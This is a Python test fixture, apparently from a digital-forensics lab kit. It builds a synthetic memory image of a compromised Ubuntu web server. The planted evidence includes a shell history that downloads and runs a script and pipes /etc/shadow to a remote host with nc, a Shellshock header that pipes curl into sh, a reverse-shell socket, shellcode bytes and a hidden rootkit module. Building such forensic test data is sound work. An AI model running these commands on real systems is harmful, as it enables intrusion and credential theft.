"""One rich host for the memory writer's tests: a compromised Ubuntu web server."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from labkit.evidence.memory.spec import (
    Injected,
    KernelBuild,
    KmsgLine,
    MemFile,
    MemModule,
    MemoryImageSpec,
    MemProcess,
    MemSocket,
    OpenFile,
)

BOOT = datetime(2024, 3, 11, 7, 42, 13, 250000, tzinfo=UTC)
ACQUIRED = BOOT + timedelta(hours=5, minutes=17, seconds=41)
KERNEL = KernelBuild(
    release="5.15.0-91-generic",
    banner=(
        "Linux version 5.15.0-91-generic (buildd@lcy02-amd64-045) (gcc (Ubuntu 11.4.0-1ubuntu1~22.04) "
        "11.4.0, GNU ld (GNU Binutils for Ubuntu) 2.38) #101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023\n"
    ),
)
SHELLCODE = bytes.fromhex("4831c04831ff4831f64831d24d31c06a025f6a015e6a065a6a29580f05") + b"\x90" * 8
LIBC = "/usr/lib/x86_64-linux-gnu/libc.so.6"
LD = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
HISTORY = [
    (BOOT + timedelta(hours=4, minutes=2, seconds=5), "id"),
    (BOOT + timedelta(hours=4, minutes=2, seconds=19), "uname -a"),
    (BOOT + timedelta(hours=4, minutes=3, seconds=2), "cd /tmp"),
    (BOOT + timedelta(hours=4, minutes=3, seconds=40), "wget http://203.0.113.77/x.sh -O .x.sh"),
    (BOOT + timedelta(hours=4, minutes=4, seconds=1), "chmod +x .x.sh && ./.x.sh"),
    (BOOT + timedelta(hours=4, minutes=6, seconds=30), "cat /etc/shadow | nc 203.0.113.77 9001"),
    (BOOT + timedelta(hours=4, minutes=9, seconds=12), "history -c"),
]


def at(hours: float) -> datetime:
    return BOOT + timedelta(hours=hours)


def rich_spec(image_format: str = "raw", size: int = 64 << 20, seed: int = 20240311) -> MemoryImageSpec:
    exe = lambda path, inode, size, **kw: MemFile(path, inode, size, 0o100755, **kw)  # noqa: E731
    files = [
        exe("/usr/lib/systemd/systemd", 131200, 1_849_344),
        exe("/usr/sbin/sshd", 131301, 921_992),
        exe("/usr/lib/systemd/systemd-resolved", 131306, 432_936),
        exe("/usr/sbin/cron", 131302, 55_944),
        exe("/usr/sbin/nginx", 131303, 1_210_480),
        exe("/usr/bin/bash", 131304, 1_396_520),
        exe(
            "/tmp/.x",
            262951,
            18_320,
            mtime=at(4.07),
            deleted=True,
            cached=b"\x7fELF\x02\x01\x01" + bytes(9) + b"payload",
        ),
        exe("/usr/bin/python3.10", 131305, 5_904_904),
        exe(LIBC, 131400, 2_216_304),
        exe(LD, 131401, 240_936),
        MemFile(
            "/var/log/nginx/access.log",
            393230,
            88_114,
            0o100640,
            uid=33,
            gid=4,
            mtime=at(5.2),
            cached=b'203.0.113.77 - - [11/Mar/2024:11:43:10 +0000] "GET /cgi-bin/status HTTP/1.1" 200 612\n',
        ),
        MemFile("/var/log/nginx/error.log", 393231, 1_204, 0o100640, uid=33, gid=4, mtime=at(4.01)),
        MemFile("/dev/null", 5, 0, 0o020666),
        MemFile("/dev/pts/0", 3, 0, 0o020620, uid=1000, gid=5),
        MemFile("/run/nginx.pid", 1702, 5, 0o100644, cached=b"1021\n"),
    ]
    sockets = [
        MemSocket(31337, "AF_INET", "STREAM", "LISTEN", "0.0.0.0", 22),
        MemSocket(31338, "AF_INET6", "STREAM", "LISTEN", "::", 22),
        MemSocket(32001, "AF_INET", "STREAM", "LISTEN", "0.0.0.0", 80),
        MemSocket(32002, "AF_INET", "STREAM", "ESTABLISHED", "10.20.30.40", 80, "198.51.100.23", 51544),
        MemSocket(40100, "AF_INET", "STREAM", "ESTABLISHED", "10.20.30.40", 46120, "203.0.113.77", 4444),
        MemSocket(40101, "AF_INET", "STREAM", "LISTEN", "0.0.0.0", 31337),
        MemSocket(40102, "AF_INET6", "STREAM", "ESTABLISHED", "2001:db8::10", 22, "2001:db8::beef", 60022),
        MemSocket(33001, "AF_INET", "DGRAM", "UNCONNECTED", "127.0.0.53", 53),
        MemSocket(33002, "AF_UNIX", "STREAM", "LISTEN", "/run/systemd/private"),
        MemSocket(33003, "AF_UNIX", "DGRAM", "UNCONNECTED", "/run/systemd/journal/dev-log"),
        MemSocket(33004, "AF_UNIX", "STREAM", "ESTABLISHED", "", 0, "/run/systemd/journal/stdout"),
    ]
    kthread = lambda pid, comm, start: MemProcess(pid, 2, comm, start, kernel_thread=True)  # noqa: E731
    processes = [
        MemProcess(
            1,
            0,
            "systemd",
            at(0.0003),
            argv=["/sbin/init", "splash"],
            env=["HOME=/", "TERM=linux"],
            exe="/usr/lib/systemd/systemd",
            libraries=[LIBC, LD],
            files=[OpenFile(0, "/dev/null"), OpenFile(14, socket=33002), OpenFile(35, socket=33003)],
        ),
        MemProcess(2, 0, "kthreadd", at(0.0003), kernel_thread=True),
        kthread(3, "rcu_gp", at(0.0004)),
        kthread(4, "rcu_par_gp", at(0.0004)),
        kthread(6, "kworker/0:0H-events_highpri", at(0.0004)),
        kthread(12, "ksoftirqd/0", at(0.0005)),
        kthread(14, "migration/0", at(0.0005)),
        kthread(157, "kworker/1:2-events", at(1.5)),
        MemProcess(
            540,
            1,
            "systemd-resolve",
            at(0.0015),
            uid=101,
            gid=103,
            argv=["/lib/systemd/systemd-resolved"],
            env=["LANG=C.UTF-8", "NOTIFY_SOCKET=/run/systemd/notify"],
            exe="/usr/lib/systemd/systemd-resolved",
            libraries=[LIBC, LD],
            files=[OpenFile(0, "/dev/null"), OpenFile(13, socket=33001)],
        ),
        MemProcess(
            612,
            1,
            "cron",
            at(0.002),
            argv=["/usr/sbin/cron", "-f", "-P"],
            env=["LANG=C.UTF-8", "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"],
            exe="/usr/sbin/cron",
            libraries=[LIBC, LD],
            files=[OpenFile(0, "/dev/null"), OpenFile(1, "/dev/null")],
        ),
        MemProcess(
            655,
            1,
            "sshd",
            at(0.003),
            argv=["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"],
            env=["LANG=C.UTF-8", "SSHD_OPTS="],
            exe="/usr/sbin/sshd",
            libraries=[LIBC, LD],
            files=[OpenFile(0, "/dev/null"), OpenFile(3, socket=31337), OpenFile(4, socket=31338)],
        ),
        MemProcess(
            1021,
            1,
            "nginx",
            at(0.004),
            argv=["nginx: master process /usr/sbin/nginx -g daemon on; master_process on;"],
            env=["LANG=C.UTF-8"],
            exe="/usr/sbin/nginx",
            libraries=[LIBC, LD],
            files=[
                OpenFile(0, "/dev/null"),
                OpenFile(1, "/dev/null"),
                OpenFile(2, "/var/log/nginx/error.log"),
                OpenFile(5, "/var/log/nginx/access.log"),
                OpenFile(6, socket=32001),
            ],
        ),
        MemProcess(
            1022,
            1021,
            "nginx",
            at(0.0041),
            uid=33,
            gid=33,
            argv=["nginx: worker process"],
            env=["LANG=C.UTF-8"],
            exe="/usr/sbin/nginx",
            libraries=[LIBC, LD],
            files=[
                OpenFile(0, "/dev/null"),
                OpenFile(2, "/var/log/nginx/error.log"),
                OpenFile(5, "/var/log/nginx/access.log"),
                OpenFile(6, socket=32001),
                OpenFile(11, socket=32002),
            ],
        ),
        MemProcess(
            1023,
            1021,
            "nginx",
            at(0.0041),
            uid=33,
            gid=33,
            argv=["nginx: worker process"],
            env=["LANG=C.UTF-8"],
            exe="/usr/sbin/nginx",
            libraries=[LIBC, LD],
            files=[
                OpenFile(0, "/dev/null"),
                OpenFile(5, "/var/log/nginx/access.log"),
                OpenFile(6, socket=32001),
            ],
            heap=[
                b"GET /cgi-bin/status HTTP/1.1\r\nHost: 10.20.30.40\r\n"
                b"User-Agent: () { :; }; /bin/bash -c 'curl 203.0.113.77/x.sh|sh'\r\n"
            ],
        ),
        MemProcess(
            2290,
            655,
            "sshd",
            at(3.9),
            argv=["sshd: deploy [priv]"],
            exe="/usr/sbin/sshd",
            libraries=[LIBC, LD],
            files=[OpenFile(0, "/dev/null"), OpenFile(4, socket=40102)],
        ),
        MemProcess(
            2305,
            2290,
            "bash",
            at(3.95),
            uid=1000,
            gid=1000,
            argv=["-bash"],
            env=[
                "SHELL=/bin/bash",
                "PWD=/tmp",
                "LOGNAME=deploy",
                "HOME=/home/deploy",
                "LANG=C.UTF-8",
                "SSH_CONNECTION=2001:db8::beef 60022 2001:db8::10 22",
                "USER=deploy",
                "TERM=xterm-256color",
                "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                "SSH_TTY=/dev/pts/0",
            ],
            exe="/usr/bin/bash",
            libraries=[LIBC, LD],
            history=HISTORY,
            files=[
                OpenFile(0, "/dev/pts/0"),
                OpenFile(1, "/dev/pts/0"),
                OpenFile(2, "/dev/pts/0"),
                OpenFile(255, "/dev/pts/0"),
            ],
        ),
        MemProcess(
            2388,
            2305,
            ".x",
            at(4.07),
            uid=1000,
            gid=1000,
            argv=["./.x.sh"],
            env=["PWD=/tmp", "HOME=/home/deploy"],
            exe="/tmp/.x",
            libraries=[LIBC, LD],
            files=[
                OpenFile(0, socket=40100),
                OpenFile(1, socket=40100),
                OpenFile(2, socket=40100),
                OpenFile(3, socket=40101),
                OpenFile(4, socket=33004),
                OpenFile(5, "/tmp/.x"),
            ],
            injected=[Injected(SHELLCODE, "rwx", 8192)],
        ),
        MemProcess(
            2402,
            1,
            "python3",
            at(4.1),
            uid=1000,
            gid=1000,
            hidden=True,
            argv=["python3", "-c", "import pty;pty.spawn('/bin/sh')"],
            env=["HOME=/home/deploy"],
            exe="/usr/bin/python3.10",
            libraries=[LIBC, LD],
            files=[OpenFile(0, "/dev/null")],
        ),
    ]
    modules = [
        MemModule("nf_tables", 249_856),
        MemModule("ext4", 983_040),
        MemModule("virtio_net", 61_440),
        MemModule("diamorphine", 16_384, hidden=True, taints="OE"),
    ]
    kmsg = [
        KmsgLine(
            BOOT + timedelta(microseconds=1200), "Linux version 5.15.0-91-generic (buildd@lcy02-amd64-045)", 5
        ),
        KmsgLine(
            BOOT + timedelta(seconds=2, microseconds=114509),
            "EXT4-fs (dm-0): mounted filesystem with ordered data mode. Opts: (null). Quota mode: none.",
        ),
        KmsgLine(at(4.08), "diamorphine: loading out-of-tree module taints kernel.", 4),
        KmsgLine(
            at(4.08) + timedelta(microseconds=310),
            "diamorphine: module verification failed: signature and/or required key missing - "
            "tainting kernel",
            4,
        ),
    ]
    return MemoryImageSpec(
        kernel=KERNEL,
        hostname="web01",
        boot_time=BOOT,
        acquired_at=ACQUIRED,
        size=size,
        seed=seed,
        format=image_format,
        files=files,
        sockets=sockets,
        processes=processes,
        modules=modules,
        kmsg=kmsg,
        noise=[b"AKIAIOSFODNN7EXAMPLE", b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n"],
    )
